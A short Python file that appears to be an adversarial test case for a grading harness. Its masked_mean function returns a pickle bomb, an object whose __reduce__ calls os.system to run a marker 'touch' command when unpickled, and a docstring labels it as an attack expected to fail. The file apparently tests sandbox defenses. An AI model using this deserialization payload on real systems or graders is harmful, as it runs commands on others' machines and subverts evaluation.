"""attack: returns a pickle bomb
strategy: bytes and objects that run a command when somebody unpickles them
family: bombs
question: q1_pool
expect: failed
"""

import os
import pickle


class Bomb:
    def __reduce__(self):
        return (os.system, ("touch /tmp/tamrin-was-here",))


def masked_mean(hidden, mask):
    return [pickle.dumps(Bomb()), Bomb()]
